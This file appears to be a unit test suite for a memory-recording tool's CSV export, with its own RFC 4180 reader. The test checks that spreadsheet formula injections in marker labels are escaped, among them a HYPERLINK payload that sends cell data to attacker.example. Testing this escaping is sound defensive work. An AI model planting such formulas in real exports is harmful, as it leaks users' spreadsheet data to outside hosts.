/**
 * CSV export, read back with a small RFC 4180 reader written here (no CSV parser is among the
 * project's dependencies): every sample and marker comes back, and marker texts from the target
 * cannot become spreadsheet formulas.
 */
import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { parseRecording, Recording, textCell, toCsv } from '../../src/core/recording';

const RECORDINGS = path.join(__dirname, '..', '..', '..', 'test', 'unit', 'recorded', 'recordings');

function recording(name: string): Recording {
  const result = parseRecording(fs.readFileSync(path.join(RECORDINGS, `${name}.memwatch.json`), 'utf8'));
  assert.ok(result.ok, result.ok ? '' : result.message);
  return result.recording;
}

/**
 * RFC 4180: records end with CRLF; a field is plain (no comma, quote, CR or LF) or quoted, with
 * quotes doubled inside. Throws on anything else, so a malformed export fails the test.
 */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`a quote inside a plain field at ${i}`);
        field += text[i++];
      }
    }
    record.push(field);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
      if (i === text.length) return records;
      continue;
    }
    throw new Error(`expected a comma or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 10))}`);
  }
}

describe('recording: CSV export', () => {
  it('samples: a header with units, one row per sample, empty cells for missing values', () => {
    const r = recording('gogc-off-memlimit');
    const rows = readCsv(toCsv(r).samples);
    const names = Object.keys(r.columns);
    assert.deepStrictEqual(rows[0].slice(0, 6), ['time_ms', 'time_iso', 'rss_bytes', 'vsz_bytes', 'rss_anon_bytes', 'rss_file_bytes']);
    assert.ok(rows[0].includes('gc_cycles_count') && rows[0].includes('heap_objects_bytes') && rows[0].includes('go_rss_bytes'), rows[0].join());
    assert.strictEqual(rows[0].length, 2 + names.length);
    assert.strictEqual(rows.length, 1 + r.time.length);
    for (let i = 0; i < r.time.length; i++) {
      const row = rows[i + 1];
      assert.strictEqual(Number(row[0]), r.time[i]);
      assert.strictEqual(Date.parse(row[1]), r.startTime + r.time[i]);
      names.forEach((name, c) => {
        const value = r.columns[name].values[i];
        assert.strictEqual(row[2 + c], value === null ? '' : String(value), `${name} at row ${i}`);
      });
    }
    // The first samples came before the Go figures were found: empty cells there.
    assert.strictEqual(rows[1][2 + names.indexOf('heapObjects')], '');
  });

  it('markers: every field, quoted where needed; target text that a spreadsheet would run gets an apostrophe', () => {
    const base = recording('default-gc');
    const hostile = [
      '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
      '+1+2',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      'a, b and "c"',
      'two\r\nlines',
      '−200.0 MiB',
    ];
    const r: Recording = {
      ...base,
      events: [...base.events, ...hostile.map((label, i) => ({ time: 100 + i, kind: 'note', label, detail: label, ...(i === 0 ? { endTime: 500, band: true, bytes: 42 } : {}) }))],
    };
    const text = toCsv(r).markers;
    const rows = readCsv(text);
    assert.deepStrictEqual(rows[0], ['time_ms', 'time_iso', 'end_ms', 'kind', 'label', 'detail', 'bytes']);
    assert.strictEqual(rows.length, 1 + r.events.length);
    r.events.forEach((e, i) => {
      const row = rows[i + 1];
      assert.deepStrictEqual(row, [String(e.time), new Date(r.startTime + e.time).toISOString(), e.endTime === undefined ? '' : String(e.endTime), e.kind, textCell(e.label), textCell(e.detail ?? ''), e.bytes === undefined ? '' : String(e.bytes)]);
    });
    const labels = rows.slice(1 + base.events.length).map((row) => row[4]);
    assert.deepStrictEqual(labels, [
      `'=HYPERLINK("http://attacker.example/?"&A1,"Click")`,
      "'+1+2",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      'a, b and "c"',
      'two\r\nlines',
      '−200.0 MiB',
    ]);
    // The release marker's measured amount is a number a spreadsheet can add up.
    const release = rows.find((row) => row[3] === 'release')!;
    assert.strictEqual(Number(release[6]), base.events.find((e) => e.kind === 'release')!.bytes);
  });

  it('columns a newer version added are exported too, with their unit', () => {
    const r = recording('default-gc');
    const withMore: Recording = { ...r, columns: { ...r.columns, goroutines: { unit: 'count', values: r.time.map((_, i) => (i % 3 ? i : null)) } } };
    const rows = readCsv(toCsv(withMore).samples);
    const at = rows[0].indexOf('goroutines_count');
    assert.ok(at > 0);
    assert.deepStrictEqual(
      rows.slice(1, 5).map((row) => row[at]),
      ['', '1', '2', ''],
    );
  });
});
